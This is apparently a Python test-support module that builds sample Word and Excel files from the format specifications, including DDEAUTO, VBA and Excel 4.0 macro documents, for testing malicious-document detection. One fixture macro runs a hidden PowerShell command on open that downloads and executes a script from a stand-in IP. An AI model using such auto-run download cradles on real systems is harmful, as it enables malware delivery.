"""Office documents built by the tests: a plain docx, one with a DDEAUTO field, an encrypted one,
and documents with VBA and Excel 4.0 (XLM) macros built from the specifications (see below)."""

from __future__ import annotations

import io
import zipfile

_CT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def docx(body_xml: str = "<w:p><w:r><w:t>Hello</w:t></w:r></w:p>") -> bytes:
    """A minimal Word document with ``body_xml`` inside ``<w:body>``."""
    doc = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<w:document xmlns:w="{_W}"><w:body>{body_xml}</w:body></w:document>'
    )
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", _CT)
        z.writestr("_rels/.rels", _RELS)
        z.writestr("word/document.xml", doc)
    return buf.getvalue()


def docx_dde() -> bytes:
    """A Word document whose field runs a command through DDEAUTO (no macro needed)."""
    return docx(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe '
        '"/k calc.exe" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def docx_encrypted(password: str = "infected") -> bytes:
    """The plain document, encrypted (ECMA-376 agile) with msoffcrypto-tool: an OLE file."""
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(docx())).encrypt(password, out)
    return out.getvalue()


# --- VBA and XLM macros ------------------------------------------------------------------------
#
# Macro documents cannot be saved by any library available here, and olefile only reads and
# patches OLE files: it cannot create one. So the tests build them from the specifications:
# a minimal Compound File Binary writer ([MS-CFB], version 3: 512-byte sectors, a mini stream
# for streams under 4096 bytes), the VBA project storage ([MS-OVBA] 2.3: PROJECT, VBA/dir,
# VBA/_VBA_PROJECT and one stream per module) with MS-OVBA compression, and a minimal BIFF8
# workbook ([MS-XLS]) whose BOUNDSHEET record declares an Excel 4.0 macro sheet. The writer
# is test support only: it makes well-formed files of a few streams, nothing more.

_CFB_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
_SECTOR, _MINI, _CUTOFF = 512, 64, 4096
_FREE, _END, _FATSECT, _NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
CLSID_WORD97 = "00020906-0000-0000-c000-000000000046"
CLSID_EXCEL97 = "00020820-0000-0000-c000-000000000046"


class _Node:
    def __init__(self, name: str, kind: int, data: bytes = b"") -> None:
        self.name, self.kind, self.data = name, kind, data  # kind: 1 storage, 2 stream, 5 root
        self.children: dict[str, _Node] = {}
        self.id = 0
        self.left = self.right = self.child = _NOSTREAM
        self.start, self.size = _END, 0


def _cfb_order(n: _Node) -> tuple[int, str]:
    # [MS-CFB] 2.6.4: siblings are ordered by name length first, then by upper-cased name.
    return (len(n.name), n.name.upper())


def cfb(streams: dict[str, bytes], clsid: str | None = None) -> bytes:
    """A Compound File (OLE2) holding ``streams`` ("Storage/Sub/Stream" -> bytes).

    ``clsid`` is the root storage's class id, which tells readers what application wrote it.
    """
    import math
    import struct
    import uuid

    root = _Node("Root Entry", 5)
    for path, data in streams.items():
        *dirs, leaf = path.split("/")
        node = root
        for d in dirs:
            node = node.children.setdefault(d, _Node(d, 1))
        node.children[leaf] = _Node(leaf, 2, data)
    nodes = [root]
    for n in nodes:  # breadth first; the list grows while it is walked
        nodes.extend(sorted(n.children.values(), key=_cfb_order))
    for i, n in enumerate(nodes):
        n.id = i

    def tree(items: list[_Node]) -> int:
        # A balanced binary tree of siblings; all nodes black is a valid red-black colouring
        # for readers, which only walk it.
        if not items:
            return _NOSTREAM
        mid = len(items) // 2
        items[mid].left, items[mid].right = tree(items[:mid]), tree(items[mid + 1 :])
        return items[mid].id

    for n in nodes:
        n.child = tree(sorted(n.children.values(), key=_cfb_order))

    mini, minifat = bytearray(), []
    big = [n for n in nodes if n.kind == 2 and len(n.data) >= _CUTOFF]
    for n in nodes:
        n.size = len(n.data) if n.kind == 2 else 0
        if n.kind == 2 and 0 < len(n.data) < _CUTOFF:
            n.start = len(mini) // _MINI
            count = math.ceil(len(n.data) / _MINI)
            minifat += [n.start + k + 1 for k in range(count - 1)] + [_END]
            mini += n.data + bytes(-len(n.data) % _MINI)
    n_dir = math.ceil(len(nodes) * 128 / _SECTOR)
    n_minifat = math.ceil(len(minifat) * 4 / _SECTOR)
    n_ministream = math.ceil(len(mini) / _SECTOR)
    n_big = [math.ceil(len(n.data) / _SECTOR) for n in big]
    data_sectors = n_dir + n_minifat + n_ministream + sum(n_big)
    n_fat = 1
    while n_fat * (_SECTOR // 4) < n_fat + data_sectors:
        n_fat += 1
    assert n_fat <= 109, "test support writes no DIFAT"
    fat = [_FATSECT] * n_fat
    body = bytearray()

    def place(data: bytes, sectors: int) -> int:
        start = len(fat)
        fat.extend([start + k + 1 for k in range(sectors - 1)] + [_END])
        body.extend(data + bytes(-len(data) % _SECTOR))
        return start

    # The directory follows the FAT; its bytes are written last, once every start is known.
    dir_at = len(fat)
    fat.extend([dir_at + k + 1 for k in range(n_dir - 1)] + [_END])
    minifat_bytes = b"".join(struct.pack("<I", v) for v in minifat)
    minifat_at = place(minifat_bytes, n_minifat) if minifat else _END
    if mini:
        root.start, root.size = place(bytes(mini), n_ministream), len(mini)
    for n, count in zip(big, n_big, strict=True):
        n.start = place(n.data, count)
    fat += [_FREE] * (-len(fat) % (_SECTOR // 4))

    entries = bytearray()
    for n in nodes:
        name = (n.name + "\0").encode("utf-16-le")
        cls = uuid.UUID(clsid).bytes_le if (clsid and n.kind == 5) else bytes(16)
        entries += struct.pack(
            "<64sHBBIII16sIQQIQ",
            name,
            len(name),
            n.kind,
            1,
            n.left,
            n.right,
            n.child,
            cls,
            0,
            0,
            0,
            n.start if n.kind != 1 else 0,
            n.size,
        )
    while len(entries) % _SECTOR:
        entries += struct.pack(
            "<64sHBBIII16sIQQIQ",
            b"",
            0,
            0,
            0,
            _NOSTREAM,
            _NOSTREAM,
            _NOSTREAM,
            bytes(16),
            0,
            0,
            0,
            0,
            0,
        )
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        _CFB_MAGIC,
        bytes(16),
        0x3E,
        3,
        0xFFFE,
        9,
        6,
        bytes(6),
        0,
        n_fat,
        dir_at,
        0,
        _CUTOFF,
        minifat_at,
        n_minifat,
        _END,
        0,
    )
    header += b"".join(struct.pack("<I", k if k < n_fat else _FREE) for k in range(109))
    fat_bytes = b"".join(struct.pack("<I", v) for v in fat)
    return header + fat_bytes + bytes(entries) + bytes(body)


def ovba_compress(data: bytes) -> bytes:
    """[MS-OVBA] 2.4.1 compression, without copy tokens (valid, just not smaller).

    Every 4096 bytes but the last are stored as raw chunks; the last chunk is a compressed
    chunk of literal tokens only (a flag byte of 0 before every eight bytes).
    """
    import struct

    out = bytearray(b"\x01")  # SignatureByte
    for i in range(0, len(data), 4096):
        chunk = data[i : i + 4096]
        if len(chunk) == 4096:
            out += struct.pack("<H", 0x3000 | 4095) + chunk  # raw: flag 0, size 4098
            continue
        body = bytearray()
        for j in range(0, len(chunk), 8):
            body += b"\x00" + chunk[j : j + 8]
        if len(body) + 2 > 4098:
            raise ValueError("a last chunk this long needs copy tokens (not implemented)")
        out += struct.pack("<H", 0x8000 | 0x3000 | (len(body) + 2 - 3)) + body
    return bytes(out)


def _rec(rid: int, data: bytes) -> bytes:
    import struct

    return struct.pack("<HI", rid, len(data)) + data


def _dir_stream(modules: list[tuple[str, bool]]) -> bytes:
    """The decompressed VBA/dir stream ([MS-OVBA] 2.3.4.2) for ``modules`` (name, document?)."""
    import struct

    u32 = lambda v: struct.pack("<I", v)  # noqa: E731
    out = bytearray()
    out += _rec(0x0001, u32(1))  # PROJECTSYSKIND: 32-bit Windows
    out += _rec(0x0002, u32(0x409))  # PROJECTLCID
    out += _rec(0x0014, u32(0x409))  # PROJECTLCIDINVOKE
    out += _rec(0x0003, struct.pack("<H", 1252))  # PROJECTCODEPAGE
    out += _rec(0x0004, b"VBAProject")  # PROJECTNAME
    out += _rec(0x0005, b"") + _rec(0x0040, b"")  # PROJECTDOCSTRING (+ unicode)
    out += _rec(0x0006, b"") + _rec(0x003D, b"")  # PROJECTHELPFILEPATH (1 and 2)
    out += _rec(0x0007, u32(0))  # PROJECTHELPCONTEXT
    out += _rec(0x0008, u32(0))  # PROJECTLIBFLAGS
    out += struct.pack("<HIIH", 0x0009, 4, 1, 0)  # PROJECTVERSION (reserved size 4, 1.0)
    out += _rec(0x000C, b"") + _rec(0x003C, b"")  # PROJECTCONSTANTS (+ unicode)
    out += _rec(0x000F, struct.pack("<H", len(modules)))  # PROJECTMODULES
    out += _rec(0x0013, struct.pack("<H", 0xFFFF))  # PROJECTCOOKIE
    for name, document in modules:
        b, u = name.encode("cp1252"), name.encode("utf-16-le")
        out += _rec(0x0019, b) + _rec(0x0047, u)  # MODULENAME, MODULENAMEUNICODE
        out += _rec(0x001A, b) + _rec(0x0032, u)  # MODULESTREAMNAME (+ unicode)
        out += _rec(0x001C, b"") + _rec(0x0048, b"")  # MODULEDOCSTRING (+ unicode)
        out += _rec(0x0031, u32(0))  # MODULEOFFSET: source right at the stream start
        out += _rec(0x001E, u32(0))  # MODULEHELPCONTEXT
        out += _rec(0x002C, struct.pack("<H", 0xFFFF))  # MODULECOOKIE
        out += struct.pack("<HI", 0x0022 if document else 0x0021, 0)  # MODULETYPE
        out += struct.pack("<HI", 0x002B, 0)  # module terminator
    out += struct.pack("<HI", 0x0010, 0)  # dir terminator
    return bytes(out)


AUTOEXEC_MODULE = (
    'Attribute VB_Name = "Module1"\r\n'
    "Sub AutoOpen()\r\n"
    "    Dim sh As Object\r\n"
    '    Set sh = CreateObject("WScript.Shell")\r\n'
    '    sh.Run "powershell -nop -w hidden -c IEX(New-Object Net.WebClient)'
    ".DownloadString('http://198.51.100.7/p.ps1')\"\r\n"
    "End Sub\r\n"
)
DOCUMENT_OPEN_MODULE = (
    'Attribute VB_Name = "ThisDocument"\r\n'
    "Private Sub Document_Open()\r\n"
    '    Shell "cmd.exe /c calc.exe", vbHide\r\n'
    "End Sub\r\n"
)
HARMLESS_MODULE = (
    'Attribute VB_Name = "Module1"\r\nSub Greeting()\r\n    MsgBox "Hello"\r\nEnd Sub\r\n'
)


def vba_project(modules: dict[str, str], root: str = "") -> dict[str, bytes]:
    """The streams of a VBA project storage under ``root`` ("" for vbaProject.bin,
    "Macros/" in a Word file, "_VBA_PROJECT_CUR/" in an Excel file).

    ``modules`` maps a module name to its source; ``ThisDocument``/``ThisWorkbook`` become
    document modules, the others standard modules.
    """
    docs = {"ThisDocument", "ThisWorkbook"}
    lines = ['ID="{00000000-0000-0000-0000-000000000000}"']
    for name in modules:
        lines.append(f"Document={name}/&H00000000" if name in docs else f"Module={name}")
    lines += ['Name="VBAProject"', 'HelpContextID="0"', 'VersionCompatible32="393222000"', ""]
    streams = {
        f"{root}PROJECT": "\r\n".join(lines).encode("cp1252"),
        # Reserved1, Version 0xFFFF (no performance cache to trust), Reserved2, Reserved3.
        f"{root}VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",
        f"{root}VBA/dir": ovba_compress(_dir_stream([(n, n in docs) for n in modules])),
    }
    for name, source in modules.items():
        streams[f"{root}VBA/{name}"] = ovba_compress(source.encode("cp1252"))
    return streams


def vba_project_bin(modules: dict[str, str]) -> bytes:
    """``vbaProject.bin`` as stored inside a macro-enabled OOXML file."""
    return cfb(vba_project(modules))


def docm(modules: dict[str, str] | None = None) -> bytes:
    """A macro-enabled Word document (.docm) with a VBA project (AutoOpen + Shell by default)."""
    mods = modules if modules is not None else {"Module1": AUTOEXEC_MODULE}
    ct = _CT.replace(
        "wordprocessingml.document.main+xml",
        'wordprocessingml.document.main+xml"/><Override PartName="/word/vbaProject.bin" '
        'ContentType="application/vnd.ms-office.vbaProject',
    ).replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/'
        'vbaProject" Target="vbaProject.bin"/></Relationships>'
    )
    src = io.BytesIO(docx())
    buf = io.BytesIO()
    with zipfile.ZipFile(src) as z, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for info in z.infolist():
            data = z.read(info)
            out.writestr(info.filename, ct if info.filename == "[Content_Types].xml" else data)
        out.writestr("word/_rels/document.xml.rels", rels)
        out.writestr("word/vbaProject.bin", vba_project_bin(mods))
    return buf.getvalue()


def doc_with_macro(modules: dict[str, str] | None = None) -> bytes:
    """A legacy (OLE) Word file with a VBA project under ``Macros/``.

    The WordDocument stream holds only a File Information Block header (wIdent 0xA5EC): enough
    for readers that look for macros, not a document Word would display.
    """
    import struct

    mods = modules if modules is not None else {"ThisDocument": DOCUMENT_OPEN_MODULE}
    fib = struct.pack("<HHH", 0xA5EC, 0x00C1, 0) + bytes(4096)
    streams = {"WordDocument": fib, "1Table": bytes(512)}
    streams.update(vba_project(mods, "Macros/"))
    return cfb(streams, CLSID_WORD97)


def _biff(rtype: int, data: bytes = b"") -> bytes:
    import struct

    return struct.pack("<HH", rtype, len(data)) + data


def xls(macro_sheet: bool = True, vba: dict[str, str] | None = None) -> bytes:
    """A minimal BIFF8 Excel 97 workbook: one worksheet, plus (``macro_sheet``) an Excel 4.0
    macro sheet, the container of XLM macros; ``vba`` adds a VBA project too."""
    import struct

    def bof(dt: int) -> bytes:  # BOF: BIFF8, substream type, build/year, file history, version
        return _biff(0x0809, struct.pack("<HHHHII", 0x0600, dt, 0x0DBB, 0x07CC, 0, 0x0206))

    sheets = [("Sheet1", 0x00, 0x0010)]  # (name, BOUNDSHEET dt, BOF dt)
    if macro_sheet:
        sheets.append(("Macro1", 0x01, 0x0040))  # dt 1: "Excel 4.0 macro sheet"

    def boundsheets(offsets: list[int]) -> bytes:
        out = b""
        for (name, dt, _bof), pos in zip(sheets, offsets, strict=True):
            # lbPlyPos, hsState (0 visible), dt, ShortXLUnicodeString (cch, fHighByte=0, chars)
            out += _biff(0x0085, struct.pack("<IBBBB", pos, 0, dt, len(name), 0) + name.encode())
        return out

    head = bof(0x0005) + _biff(0x0042, struct.pack("<H", 1200))  # globals BOF, CODEPAGE
    globals_len = len(head) + len(boundsheets([0] * len(sheets))) + len(_biff(0x000A))
    substreams, offsets, pos = [], [], globals_len
    for _name, _dt, bof_dt in sheets:
        body = bof(bof_dt) + _biff(0x000A)  # BOF ... EOF: an empty sheet
        offsets.append(pos)
        substreams.append(body)
        pos += len(body)
    workbook = head + boundsheets(offsets) + _biff(0x000A) + b"".join(substreams)
    streams = {"Workbook": workbook}
    if vba:
        streams.update(vba_project(vba, "_VBA_PROJECT_CUR/"))
    return cfb(streams, CLSID_EXCEL97)
